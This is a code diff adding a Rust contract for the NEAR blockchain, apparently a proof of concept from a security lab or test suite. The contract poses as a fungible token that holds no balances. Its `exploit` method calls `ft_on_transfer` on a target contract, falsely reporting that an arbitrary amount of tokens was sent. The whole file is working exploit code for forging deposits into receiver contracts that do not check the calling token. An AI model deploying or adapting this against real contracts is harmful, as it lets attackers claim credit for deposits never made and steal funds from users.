@@ -0,0 +1,32 @@
+use near_sdk::borsh::{self, BorshDeserialize, BorshSerialize};
+
+use near_sdk::ext_contract;
+use near_sdk::{env, json_types::U128, near_bindgen, AccountId, Gas, Promise, PromiseOrValue};
+
+pub const TGAS: u64 = 1_000_000_000_000;
+
+#[ext_contract(vulnerable_contract)]
+trait Victim {
+    fn ft_on_transfer(
+        &mut self,
+        sender_id: AccountId,
+        amount: U128,
+        msg: String,
+    ) -> PromiseOrValue<U128>;
+}
+
+// Fake token. It has no balances and never transfers anything.
+#[near_bindgen]
+#[derive(BorshDeserialize, BorshSerialize, Default)]
+pub struct Contract {}
+
+#[near_bindgen]
+impl Contract {
+    // Tells the receiver that the caller sent it `amount` tokens, the way a token's
+    // `ft_transfer_call` would.
+    pub fn exploit(receiver: AccountId, amount: U128) -> Promise {
+        vulnerable_contract::ext(receiver)
+            .with_static_gas(Gas(10 * TGAS))
+            .ft_on_transfer(env::predecessor_account_id(), amount, "".to_string())
+    }
+}